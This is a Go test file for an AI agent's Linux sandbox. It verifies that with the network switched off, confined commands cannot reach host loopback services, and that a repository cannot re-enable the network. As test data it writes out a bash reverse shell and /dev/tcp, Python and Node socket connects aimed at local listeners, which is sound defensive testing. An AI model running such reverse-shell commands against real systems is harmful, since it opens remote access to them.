//go:build linux

package sandbox_test

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// hostService is a listener of this machine's, outside every sandbox,
// counting what reaches it: a dev server, a database, a debugger port on
// loopback.
type hostService struct {
	name, port string
	got        atomic.Int64
}

// listenHost starts TCP and UDP services on 127.0.0.1 and, where this
// machine has it, ::1.
func listenHost(t *testing.T) []*hostService {
	t.Helper()
	var out []*hostService
	for _, l := range []struct{ name, network, addr string }{
		{"tcp4", "tcp4", "127.0.0.1:0"}, {"tcp6", "tcp6", "[::1]:0"},
		{"udp4", "udp4", "127.0.0.1:0"}, {"udp6", "udp6", "[::1]:0"},
	} {
		s := &hostService{name: l.name}
		if strings.HasPrefix(l.network, "tcp") {
			ln, err := net.Listen(l.network, l.addr)
			if err != nil {
				t.Logf("%s: no listener here (%v)", l.name, err)
				continue
			}
			t.Cleanup(func() { ln.Close() })
			_, s.port, _ = net.SplitHostPort(ln.Addr().String())
			go func() {
				for {
					c, err := ln.Accept()
					if err != nil {
						return
					}
					s.got.Add(1) // a connection is already the door open
					go func() {
						defer c.Close()
						buf := make([]byte, 512)
						for {
							n, err := c.Read(buf)
							s.got.Add(int64(n))
							if err != nil {
								return
							}
						}
					}()
				}
			}()
		} else {
			pc, err := net.ListenPacket(l.network, l.addr)
			if err != nil {
				t.Logf("%s: no listener here (%v)", l.name, err)
				continue
			}
			t.Cleanup(func() { pc.Close() })
			_, s.port, _ = net.SplitHostPort(pc.LocalAddr().String())
			go func() {
				buf := make([]byte, 512)
				for {
					n, _, err := pc.ReadFrom(buf)
					if err != nil {
						return
					}
					s.got.Add(int64(n))
				}
			}()
		}
		out = append(out, s)
	}
	return out
}

// netAttacks reach each host service from a confined command, in the ways
// an agent's command line would: bash's /dev/tcp and /dev/udp, a reverse
// shell, Python and Node sockets.
func netAttacks(s *hostService) map[string]string {
	host := "127.0.0.1"
	if strings.HasSuffix(s.name, "6") {
		host = "::1"
	}
	proto := s.name[:3]
	a := map[string]string{
		"bash /dev/" + proto: fmt.Sprintf(`echo attack > /dev/%s/%s/%s`, proto, host, s.port),
	}
	if proto == "tcp" {
		a["reverse shell"] = fmt.Sprintf(`timeout -s KILL 2 bash -i >& /dev/tcp/%s/%s 0>&1`, host, s.port)
		a["python connect"] = fmt.Sprintf(`python3 -c "import socket;s=socket.create_connection(('%s',%s));s.sendall(b'attack')"`, host, s.port)
		if _, err := exec.LookPath("node"); err == nil {
			a["node connect"] = fmt.Sprintf(`node -e 'const c=require("net").connect(%s,"%s",()=>{c.end("attack")})'`, s.port, host)
		}
	} else {
		a["python sendto"] = fmt.Sprintf(`python3 -c "import socket;socket.socket(socket.AF_INET%s,socket.SOCK_DGRAM).sendto(b'attack',('%s',%s))"`, map[bool]string{true: "6"}[host == "::1"], host, s.port)
	}
	return a
}

// TestNetworkOff (issue 44): with "network": "off" in the person's policy,
// a confined command reaches none of this machine's services on loopback,
// TCP or UDP, IPv4 or IPv6, by any of the usual doors, with namespaces
// (a network namespace of its own) and under Landlock alone (seccomp
// refuses Internet sockets); each attack is first shown to reach the
// service with the network on.
func TestNetworkOff(t *testing.T) {
	needSandbox(t)
	services := listenHost(t)
	if len(services) == 0 {
		t.Fatal("no loopback listener could be made")
	}
	w := newWorld(t)
	policy := filepath.Join(w.home, ".pi", "piagent-policy.json")
	runAll := func(bin string, env []string, s *hostService) map[string]string {
		outs := map[string]string{}
		for name, script := range netAttacks(s) {
			args := []string{"sandbox", "exec", "--", "/bin/bash", "-c", script}
			if bin == leanBin {
				args = args[1:]
			}
			cmd := exec.Command(bin, args...)
			cmd.Dir, cmd.Env = w.proj, env
			out, _ := cmd.CombinedOutput()
			outs[name] = string(out)
		}
		return outs
	}
	settle := func() { time.Sleep(150 * time.Millisecond) }

	// The control: with the network on, every attack reaches its service.
	for _, s := range services {
		for name, script := range netAttacks(s) {
			before := s.got.Load()
			cmd := exec.Command(leanBin, "exec", "--", "/bin/bash", "-c", script)
			cmd.Dir, cmd.Env = w.proj, w.env
			out, _ := cmd.CombinedOutput()
			settle()
			if s.got.Load() == before {
				t.Errorf("control, %s %s: nothing reached the service with the network on, so the attack proves nothing\n%s", s.name, name, out)
			}
		}
	}

	write(t, policy, `{"version": 1, "network": "off"}`)
	for _, c := range []struct {
		name, bin string
		env       []string
	}{
		{"namespaces (piagent-sandbox)", leanBin, w.env},
		{"namespaces (piagent sandbox exec)", piagentBin, w.env},
		{"Landlock alone", faultBin, append(append([]string{}, w.env...), "PIAGENT_SANDBOX_FAULT=mount")},
	} {
		if strings.HasPrefix(c.name, "namespaces") && probed().Namespaces == "" {
			continue // needSandbox failed already in CI
		}
		for _, s := range services {
			before := s.got.Load()
			outs := runAll(c.bin, c.env, s)
			settle()
			if got := s.got.Load() - before; got != 0 {
				t.Errorf("%s: %s was reached (%d bytes or connections) with the network off:\n%v", c.name, s.name, got, outs)
			}
		}
	}

	// Its own loopback works with namespaces (a project's tests may run a
	// server), and the network namespace is really a new one.
	if probed().Namespaces != "" {
		cmd := exec.Command(leanBin, "exec", "--", "python3", "-c",
			"import socket;s=socket.socket();s.bind(('127.0.0.1',0));s.listen();c=socket.create_connection(s.getsockname());c.sendall(b'x');a,_=s.accept();print('own loopback', a.recv(1).decode())")
		cmd.Dir, cmd.Env = w.proj, w.env
		if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "own loopback x") {
			t.Errorf("the command's own loopback: %v\n%s", err, out)
		}
		mine, err := os.Readlink("/proc/self/ns/net")
		if err != nil {
			t.Fatal(err)
		}
		cmd = exec.Command(leanBin, "exec", "--", "readlink", "/proc/self/ns/net")
		cmd.Dir, cmd.Env = w.proj, w.env
		out, err := cmd.CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) == mine {
			t.Errorf("the command's network namespace is this one's (%s): %v %s", mine, err, out)
		}
	}
	// vsock reaches the hypervisor's host, and no namespace separates it.
	cmd := exec.Command(leanBin, "exec", "--", "python3", "-c", "import socket;socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)")
	cmd.Dir, cmd.Env = w.proj, w.env
	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "Permission denied") {
		var ee *exec.ExitError
		t.Errorf("a vsock socket with the network off: %v (%v) %s", err, errors.As(err, &ee), out)
	}

	// A repository cannot turn it back on.
	must(t, os.MkdirAll(filepath.Join(w.proj, ".pi"), 0o755))
	write(t, filepath.Join(w.proj, ".pi", "piagent-policy.json"), `{"version": 1, "network": "on"}`)
	for _, s := range services[:1] {
		before := s.got.Load()
		outs := runAll(leanBin, w.env, s)
		settle()
		if got := s.got.Load() - before; got != 0 {
			t.Errorf("a repository's \"network\": \"on\" reached %s:\n%v", s.name, outs)
		}
	}
	t.Logf("%d host services (TCP/UDP, IPv4/IPv6 where present) reached by every attack with the network on and by none with it off, with namespaces and under Landlock alone", len(services))
}
